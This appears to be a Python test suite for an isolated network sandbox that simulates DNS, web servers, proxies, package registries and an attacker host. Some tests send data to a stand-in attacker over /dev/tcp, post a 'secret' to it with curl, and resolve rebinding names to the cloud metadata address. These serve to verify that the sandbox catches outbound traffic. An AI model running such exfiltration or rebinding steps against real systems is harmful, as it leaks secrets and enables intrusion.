"""The bed itself, without Sandglass: names, hosts, their misbehaviour and what is on record of it. Needs root."""
import json
import os
import re
import subprocess
import sys
import tempfile
import time
import unittest

sys.path.insert(0, os.path.dirname(os.path.realpath(__file__)))
import lib  # noqa: E402
from lib import world  # noqa: E402

CURL = "curl --silent --show-error --max-time 10 "


def setUpModule():
    global bed
    bed = lib.Bed()
    unittest.addModuleCleanup(bed.__exit__)
    bed.__enter__()


def until(condition, seconds=10):
    """What it says when it is true, or in the end."""
    deadline = time.monotonic() + seconds
    while not (value := condition()) and time.monotonic() < deadline:
        time.sleep(0.02)
    return value


class Case(unittest.TestCase):
    def sh(self, command, status=0):
        got, out = bed.sh(command)
        self.assertEqual(got, status, f"{command}: {out}")
        return out

    def who(self, url, options=""):
        return json.loads(self.sh(f"{CURL} {options} '{url}'"))

    def dig(self, name, kind="A", options=""):
        return self.sh(f"dig +short +tries=1 +time=3 {options} {name} {kind}").split()


class Names(Case):
    def test_names_have_their_addresses(self):
        for name, kind, addresses in (("a.test", "A", [world.A]), ("x.y.b.test", "A", [world.B]),
                                      ("A.Test", "A", [world.A]), ("six.test", "AAAA", [world.SIX]),
                                      ("evil.test", "A", [world.EVIL]), ("nowhere.test", "A", []),
                                      ("xa.test", "A", []), ("nothing.test", "A", [])):
            self.assertEqual(self.dig(name, kind), addresses, name)

    def test_every_question_is_on_record(self):
        before = bed.now()
        self.dig("x1.b.test")
        self.dig("x2.b.test", "TXT", "+tcp")
        got = [(q["name"], q["type"], q["tcp"]) for q in before.queries("b.test")]
        self.assertEqual(got, [("x1.b.test", 1, False), ("x2.b.test", 16, True)])
        self.assertEqual(before.queries("a.test"), [])

    def test_aliases(self):
        self.assertEqual(self.dig("alias2.test"), ["alias.test.", "a.test.", world.A])
        self.assertEqual(self.dig("alias-evil.test"), ["evil.test.", world.EVIL])
        self.assertEqual(len(self.dig("alias-loop.test")), 8)

    def test_rebinding(self):
        got = [self.dig("turns.rebind.test")[0] for _ in range(4)]
        self.assertEqual(sorted(set(got)), ["10.9.9.9", world.A])
        self.assertNotEqual(got[0], got[1])
        self.assertEqual(self.dig("metadata.rebind.test"), ["169.254.169.254"])
        self.assertEqual(self.dig("host.rebind.test"), [world.EDGE4])

    def test_long_answers_come_over_tcp(self):
        before = bed.now()
        self.assertEqual(self.dig("cut.trick.test"), [world.A])
        self.assertEqual([q["tcp"] for q in before.queries("cut.trick.test")], [False, True])
        self.assertEqual(len(self.dig("many.test")), 44)

    def test_hints_and_ech_are_there_to_be_taken_out(self):
        out = self.sh("dig +short https.test HTTPS")
        for word in ("ipv4hint=198.41.0.4", "ech=", "ipv6hint="):
            self.assertIn(word, out)

    def test_no_answer_and_wrong_answers(self):
        for how, says in (("never", "timed out"), ("wrong-id", "ID mismatch"), ("loop", "bad compression pointer"),
                          ("wrong-name", "Question section mismatch"), ("short", "malformed"), ("count", "malformed"),
                          ("length", "malformed"), ("label", "bad label"), ("empty", "short"),
                          ("query", "query response not set")):
            _, out = bed.sh(f"dig +tries=1 +time=1 {how}.trick.test")
            self.assertIn(says, out, how)
        for how, addresses in (("slow", [world.A]), ("no-question", [world.EVIL]), ("extra", [world.A, world.EVIL]),
                               ("twice", [world.A])):
            self.assertEqual(self.dig(f"{how}.trick.test"), addresses, how)


class Web(Case):
    def test_each_says_who_it_is(self):
        for url, who in (("http://a.test/", "a"), ("http://b.test:8080/who", "b"), ("https://a.test/", "a"),
                         ("https://x.b.test:8443/", "b"), ("https://evil.test/", "evil"), ("http://six.test/", "six"),
                         ("https://[2606:2800::1]/", "six"), ("https://93.184.216.34/", "a"),
                         ("http://169.254.169.254/", "metadata"), ("http://10.9.9.9/", "internal"),
                         ("http://[fd00:ec2::254]/", "metadata")):
            self.assertEqual(self.who(url)["who"], who, url)

    def test_what_was_sent_is_given_back(self):
        got = self.who("https://a.test/who?x=y", "-H 'X-One: 1' -H 'x-one: 2' -X PATCH")
        self.assertEqual((got["sni"], got["host"], got["method"], got["target"], got["tls"]),
                         ("a.test", "a.test", "PATCH", "/who?x=y", "TLSv1.3"))
        self.assertEqual([h for h in got["headers"] if h[0].lower() == "x-one"], [["X-One", "1"], ["x-one", "2"]])

    def test_what_was_sent_is_on_record(self):
        before = bed.now()
        self.sh(CURL + "-d secret=1 --connect-to a.test:443:198.41.0.4:443 https://a.test/echo -k")
        [accept] = before.reached(world.EVIL)
        [request] = before.requests(local=world.EVIL)
        [body] = before.lines("web", "body")
        self.assertEqual((accept["port"], accept["source"], request["sni"], request["target"], body["text"]),
                         (443, world.EDGE4, "a.test", "/echo", "secret=1"))
        ends = until(lambda: before.lines("web", "end", id=accept["id"]))
        self.assertGreater(ends[0]["bytes"], 300)
        self.assertEqual(before.reached(world.A), [])

    def test_connections_are_kept(self):
        before = bed.now()
        self.sh(CURL + "https://a.test/who https://a.test/chunked/2/3 https://a.test/status/204 https://a.test/who")
        self.assertEqual(len(before.reached(world.A)), 1)
        self.assertEqual(len(before.requests(local=world.A)), 4)

    def test_bodies(self):
        self.assertEqual(self.sh(CURL + "-d hello http://a.test/echo"), "hello")
        self.assertEqual(self.sh(CURL + "http://a.test/chunked/3/2"), "aabbcc")
        self.assertEqual(self.sh(CURL + "http://a.test/until-close/5"), "xxxxx")
        self.assertEqual(self.sh(CURL + "http://a.test/slow/3/10"), "...")
        self.assertEqual(self.sh(CURL + "https://a.test/download/3000001 | wc -c").strip(), "3000001")
        for options in ("", "-H 'Transfer-Encoding: chunked'", "-H 'Expect: 100-continue'"):
            out = self.sh(f"head -c 1000000 /dev/zero | {CURL} {options} -T - https://a.test/upload")
            self.assertEqual(json.loads(out)["bytes"], 1000000)
        self.assertIn('"who": "a"', self.sh(CURL + "--compressed https://a.test/zipped"))
        self.assertIn("Bearer x", self.sh(CURL + "-H 'Authorization: Bearer x' https://a.test/reflect"))

    def test_servers_that_misbehave(self):
        for path, status in (("reset", 56), ("reset/half", 56), ("close", 52), ("bad/chunk-size", 56),
                             ("bad/short-body", 18), ("bad/not-http", 1), ("bad/negative-length", 8)):
            self.sh(f"{CURL} -o /dev/null http://a.test/{path}", status)
        for path in ("forever", "hang", "bad/endless-head"):
            got, _ = bed.sh(f"curl -s -m 1 -o /dev/null http://a.test/{path}")
            self.assertIn(got, (27, 28, 56), path)  # too much, too late

    def test_certificates_that_are_wrong(self):
        for name in ("expired", "wrong", "stranger", "self"):
            self.sh(f"{CURL} https://{name}.test/", 60)
            self.assertEqual(self.who(f"https://{name}.test/", "-k")["sni"], f"{name}.test")

    def test_a_websocket_echoes(self):
        self.assertEqual(self.sh(f"/usr/bin/python3 -c '{WEBSOCKET}'"), "hello\n")


# A handshake, a masked frame, and what comes back.
WEBSOCKET = """
import socket
s = socket.create_connection(("a.test", 80), 10)
s.sendall(b"GET /websocket HTTP/1.1\\r\\nHost: a.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
          b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n")
f = s.makefile("rb")
while f.readline().strip():
    pass
s.sendall(b"\\x81\\x85\\0\\0\\0\\0hello")
print(f.read(7)[2:].decode())
"""


PING = """
import socket
socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(bytes([8, 0, 0xf7, 0xff, 0, 0, 0, 0]), ("10.9.9.9", 0))
socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).sendto(bytes([128, *bytes(7)]), ("2606:2800::bad", 0))
"""


class Others(Case):
    def test_a_server_that_speaks_first(self):
        before = bed.now()
        self.assertEqual(self.sh("exec 3<>/dev/tcp/ssh.test/22; head -n1 <&3"), "SSH-2.0-bed\r\n")
        self.assertEqual(len(before.reached(world.TALK)), 1)

    def test_echo_over_both(self):
        for way in ("tcp", "udp"):
            out = self.sh(f"exec 3<>/dev/{way}/talk.test/7; echo hello >&3; timeout 5 head -n1 <&3")
            self.assertEqual(out, "hello\n", way)

    def test_the_attacker_counts(self):
        before = bed.now()
        self.assertEqual(self.sh("exec 3<>/dev/tcp/evil.test/5432; head -n1 <&3; printf 12345 >&3"), "got it\n")
        self.sh("echo x >/dev/udp/198.41.0.4/9999")
        ends = until(lambda: before.lines("sink", "end"))
        self.assertEqual([e["bytes"] for e in ends], [5])
        got = until(lambda: len(before.reached(world.EVIL)) == 2 and before.reached(world.EVIL))
        self.assertEqual(sorted((r["kind"], r["port"]) for r in got), [("accept", 5432), ("datagram", 9999)])

    def test_packets_are_counted_where_nobody_listens(self):
        before = bed.now()
        self.assertEqual(before.packets(), 0)
        bed.sh("timeout 1 bash -c 'exec 3<>/dev/tcp/198.41.0.4/4444'; echo x >/dev/udp/8.8.8.8/53")
        self.sh(f"/usr/bin/python3 -c '{PING}'")
        self.assertEqual(before.arrived(), [("10.9.9.9", "icmp", 0), ("198.41.0.4", "tcp", 4444),
                                            ("2606:2800::bad", "ipv6-icmp", 0), ("8.8.8.8", "udp", 53)])
        self.assertEqual((before.packets(world.EVIL), before.packets(world.A)), (1, 0))

    def test_the_proxy_wants_its_password(self):
        proxy = f"proxy.test:{world.PROXY_PORT}"
        good = f"--socks5-hostname {world.PROXY_USER}:{world.PROXY_PASSWORD}@{proxy}"
        self.assertEqual(self.who("https://a.test/", good)["who"], "a")
        self.assertIn("a.test:443", bed.proxied())
        for bad in (f"--socks5-hostname {proxy}", f"--socks5-hostname {world.PROXY_USER}:x@{proxy}"):
            self.sh(f"{CURL} {bad} https://a.test/", 97)

    def test_proxies_that_misbehave(self):
        for port, kind in world.BROKEN_PROXIES.items():
            got, _ = bed.sh(f"curl -s -m 1 --socks5-hostname x:y@proxy.test:{port} http://a.test/")
            self.assertEqual(got, 28 if kind == "hangs" else 97, kind)


class Clients(Case):
    """What real clients get from the registries."""

    def setUp(self):
        self.folder = self.enterContext(tempfile.TemporaryDirectory(prefix="sandglass-bed."))

    def test_git_clones_and_pushes(self):
        self.sh(f"cd {self.folder} && git clone -q https://git.test/git/hello.git && cd hello && cat hello.txt &&"
                "echo more >more && git add more && git -c user.name=x -c user.email=x@test commit -qm more &&"
                "git push -q origin HEAD:refs/heads/pushed")
        self.assertIn("refs/heads/pushed", self.sh("git ls-remote http://git.test/git/hello.git"))

    def test_pip_installs(self):
        self.sh(f"/usr/bin/python3 -m pip install -q --disable-pip-version-check --no-cache-dir --target {self.folder}"
                " --index-url https://pypi.test/simple bedpkg")
        out = self.sh(f"PYTHONPATH={self.folder} /usr/bin/python3 -c 'import bedpkg; print(bedpkg.SAYS)'")
        self.assertEqual(out, "hello from the test bed\n")

    def test_npm_installs(self):
        out = self.sh(f"cd {self.folder} && npm install --silent --no-fund --no-audit --fetch-retries 0 --cache c"
                      " --registry https://npm.test bedpkg && node -p 'require(\"bedpkg\").says'")
        self.assertEqual(out.strip(), "hello from the test bed")


class Housekeeping(Case):
    def test_two_beds_know_nothing_of_each_other(self):
        with lib.Bed() as other:
            before, there = bed.now(), other.now()
            self.assertEqual(other.sh(CURL + "-o /dev/null http://a.test/")[0], 0)
            self.assertEqual((len(there.requests()), before.lines(), before.packets()), (1, [], 0))

    def test_the_machine_does_not_see_it(self):
        def links():
            return subprocess.run(["ip", "-o", "link"], capture_output=True, text=True, check=True).stdout

        here = os.readlink("/proc/thread-self/ns/net")
        self.assertNotIn("wan@", links())
        with bed.edge():
            self.assertNotEqual(os.readlink("/proc/thread-self/ns/net"), here)
            self.assertIn("wan@", links())
        self.assertEqual(os.readlink("/proc/thread-self/ns/net"), here)

    def test_nothing_is_left(self):
        with lib.Bed() as other:
            pids = self.pids(other)
            self.assertGreaterEqual(len(pids), 7)
        self.assert_gone(other, pids)

    def test_nothing_is_left_of_a_test_that_was_killed(self):
        code = "import sys, lib, signal; b = lib.Bed(); b.__enter__(); print(b.name, flush=True); signal.pause()"
        p = subprocess.Popen([sys.executable, "-B", "-c", code], cwd=lib.HERE, stdout=subprocess.PIPE, text=True)
        other = lib.Bed()
        other.name = p.stdout.readline().strip()
        self.assertRegex(other.name, r"^sg\d+-1$")
        other.inet, other.edge_name = f"{other.name}-inet", f"{other.name}-edge"
        other.directory = f"/run/sandglass-bed/{other.name}"
        pids = self.pids(other)
        p.kill()
        p.wait()
        p.stdout.close()
        until(lambda: not os.path.exists(other.directory))
        self.assert_gone(other, pids)

    def test_half_a_bed_can_be_removed(self):
        name = lib.Bed().name
        subprocess.run(["ip", "netns", "add", f"{name}-edge"], check=True)
        p = subprocess.Popen(["ip", "netns", "exec", f"{name}-edge", "sleep", "100"])
        until(lambda: os.readlink(f"/proc/{p.pid}/ns/net") != os.readlink("/proc/self/ns/net"))
        for _ in range(2):
            subprocess.run([f"{lib.HERE}/bed", "down", name], check=True)
        self.assertEqual(p.wait(10), -9)
        self.assertFalse(os.path.exists(f"/run/netns/{name}-edge"))

    def test_names_that_are_none_are_refused(self):
        for name in ("", "../x", "-x", "a b", "A", "x" * 40):
            p = subprocess.run([f"{lib.HERE}/bed", "up", name], capture_output=True, text=True)
            self.assertEqual((p.returncode, p.stderr[:10]), (1, "bed: usage"), name)

    def pids(self, other):
        out = subprocess.run(["ip", "netns", "pids", other.inet], capture_output=True, text=True, check=True).stdout
        return [int(pid) for pid in re.findall(r"\d+", out)]

    def assert_gone(self, other, pids):
        self.assertFalse(os.path.exists(other.directory))
        for namespace in (other.inet, other.edge_name):
            self.assertFalse(os.path.exists(f"/run/netns/{namespace}"))
        self.assertEqual(until(lambda: not [p for p in pids if os.path.exists(f"/proc/{p}")]), True)


if __name__ == "__main__":
    unittest.main()
